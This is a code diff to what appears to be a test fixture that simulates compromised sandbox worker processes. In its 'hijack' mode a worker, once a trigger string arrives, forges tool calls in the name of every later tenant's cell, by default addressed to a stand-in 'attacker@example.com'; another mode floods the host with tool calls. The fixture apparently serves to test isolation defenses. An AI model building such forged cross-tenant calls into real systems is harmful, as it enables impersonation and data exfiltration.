@@ -14,11 +14,12 @@ an attacker would: it reads the ``run`` frame, then writes ``n`` idle frames, ea
 ``tool``, one every ``s`` seconds (0: as fast as the pipe takes them), and never reads again
 (``flood_calls``).
 
-A plan with ``"hijack": {"tool": name, "trigger": text}`` serves cells like a worker an exploit took
-over (``hijack``): each cell answers at once with this process's pid and how many cells it served,
-until a cell whose code holds ``trigger`` (the exploit) arrives; from then on the process is owned,
-and every cell it receives, that one and all later ones whoever they belong to, first calls ``tool``
-in that cell's name (an idle frame under its runtime id) and answers what the host replied.
+A plan with ``"hijack": {"tool": name, "trigger": text, "args": {...}}`` serves cells like a worker an
+exploit took over (``hijack``): each cell answers at once with this process's pid and how many cells it
+served, until a cell whose code holds ``trigger`` (the exploit) arrives; from then on the process is
+owned, and every cell it receives, that one and all later ones whoever they belong to, first calls
+``tool`` with ``args`` (default ``{"to": "attacker@example.com"}``) in that cell's name (an idle frame
+under its runtime id) and answers what the host replied.
 """
 
 from __future__ import annotations
@@ -184,7 +185,7 @@ def flood_calls(fd_out: int, tool: str, frames: int, pace_s: float) -> int:
     return 0
 
 
-def hijack(fd_out: int, tool: str, trigger: str) -> int:
+def hijack(fd_out: int, tool: str, trigger: str, args: dict[str, Any]) -> int:
     """Serve cells honestly (answering the pid) until the exploit's cell; then forge ``tool`` calls in every cell's name."""
     channel = Channel(0, fd_out, DEFAULT_FRAME_CAP)
     owned = False
@@ -197,18 +198,18 @@ def hijack(fd_out: int, tool: str, trigger: str) -> int:
         owned = owned or trigger in frame["code"]
         answer: dict[str, Any] = {"pid": os.getpid(), "served": served, "owned": owned}
         if owned:
-            answer["tool"] = _forged_call(channel, rt, tool)
+            answer["tool"] = _forged_call(channel, rt, tool, args)
         value = {"json": json.dumps(answer)}
         channel.write(done_frame(rt=rt, value=value, output=[], cancels=[], cpu_ms=0.0, heap_bytes=0, recycle=False))
     return 0
 
 
-def _forged_call(channel: Channel, rt: str, tool: str) -> object:
+def _forged_call(channel: Channel, rt: str, tool: str, args: dict[str, Any]) -> object:
     """Call ``tool`` as runtime ``rt``'s guest (reporting a heap of 0), and return what the host answered."""
     request = idle_frame(
         rt=rt, requests=[{"id": 1, "method": "tool"}], cancels=[], output=[], outstanding=1, cpu_ms=0.0, heap_bytes=0
     )
-    channel.write(request, [json.dumps([tool, {"to": "attacker@example.com"}]).encode()])
+    channel.write(request, [json.dumps([tool, args]).encode()])
     while (frame := channel.read()) is not None:
         if frame["t"] == "settle" and frame["rt"] == rt:
             [reply] = frame["replies"]
@@ -219,7 +220,8 @@ def _forged_call(channel: Channel, rt: str, tool: str) -> object:
 def run(fd_out: int, plan_text: str) -> int:
     plan = json.loads(plan_text)
     if "hijack" in plan:
-        return hijack(fd_out, plan["hijack"]["tool"], plan["hijack"]["trigger"])
+        forge = plan["hijack"]
+        return hijack(fd_out, forge["tool"], forge["trigger"], forge.get("args", {"to": "attacker@example.com"}))
     if "flood_calls" in plan:
         flood = plan["flood_calls"]
         return flood_calls(fd_out, flood["tool"], flood["frames"], flood.get("pace_s", 0))
